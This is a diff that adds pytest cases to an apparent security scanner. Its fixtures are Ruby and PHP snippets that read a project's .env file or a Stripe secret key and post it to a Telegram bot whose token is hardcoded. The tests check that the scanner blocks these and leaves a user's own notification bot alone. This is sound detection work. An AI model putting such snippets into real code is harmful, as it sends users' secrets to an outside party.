@@ -55,3 +55,52 @@ def test_folder_open_npm_task_running_anything_but_a_build_program_blocks(
 def test_folder_open_npm_task_running_a_build_program_does_not_block(tmp_path: Path, script: str) -> None:
     files = {".vscode/tasks.json": _tasks(OPEN_TASK), "package.json": _pkg(script)}
     assert blocking(tmp_path, files) == {}
+
+
+# ------------------------------------------------ a chat bot named by a token the file does not set
+
+_RB_SEND = (
+    'require "net/http"\n'
+    "{bind}"
+    'env = File.read(".env")\n'
+    "data = env.lines.join\n"
+    'Net::HTTP.post_form(URI("https://api.telegram.org/bot#{{T}}/sendMessage"), "chat_id" => "1", "text" => {what})\n'
+)
+
+
+@pytest.mark.parametrize(
+    "bind",
+    [
+        'T = ENV.fetch("TG", "7012345678:AAFexampleexampleexampleexample12345")\n',  # a drop's token as the default
+        'T = ENV.fetch("TG_BOT_TOKEN", "7012345678:AAFexampleexampleexampleexample12345")\n',
+        'T = ENV["TG_BOT_TOKEN"]\nT ||= "7012345678:AAFexampleexampleexampleexample12345"\n',
+        'T = ENV.fetch("TG")\n',  # a variable of no token's name: the project's .env is what is weighed
+    ],
+)
+def test_a_projects_env_posted_to_a_bot_whose_token_the_file_sets_blocks(tmp_path: Path, bind: str) -> None:
+    rb = _RB_SEND.format(bind=bind, what="data")
+    assert "SY-FLOW-001" in blocking(tmp_path, {"scripts/notify.rb": rb})
+
+
+def test_a_secret_posted_to_a_bot_of_a_defaulted_token_blocks(tmp_path: Path) -> None:
+    php = (
+        "<?php\n"
+        '$t = getenv("TG_BOT_TOKEN") ?: "7012345678:AAFexampleexampleexampleexample12345";\n'
+        '$k = getenv("STRIPE_SECRET_KEY");\n'
+        'file_get_contents("https://api.telegram.org/bot{$t}/sendMessage?chat_id=1&text=" . urlencode($k));\n'
+    )
+    assert "SY-FLOW-001" in blocking(tmp_path, {"scripts/notify.php": php})
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        'require "net/http"\nT = ENV["TG_BOT_TOKEN"]\n'
+        'Net::HTTP.post_form(URI("https://api.telegram.org/bot#{T}/sendMessage"), "chat_id" => ENV["TG_CHAT"], "text" => "done")\n',
+        "use HTTP::Tiny;\nmy $bot = $ENV{MY_BOT_TOKEN} or die;\nHTTP::Tiny->new->post_form(\n"
+        '    "https://api.telegram.org/bot$bot/sendMessage",\n    { chat_id => $ENV{MY_CHAT}, text => "build finished" });\n',
+    ],
+)
+def test_the_users_own_bot_named_from_the_environment_does_not_block(tmp_path: Path, code: str) -> None:
+    rel = "scripts/notify.rb" if code.startswith("require") else "scripts/notify.pl"
+    assert blocking(tmp_path, {rel: code}) == {}
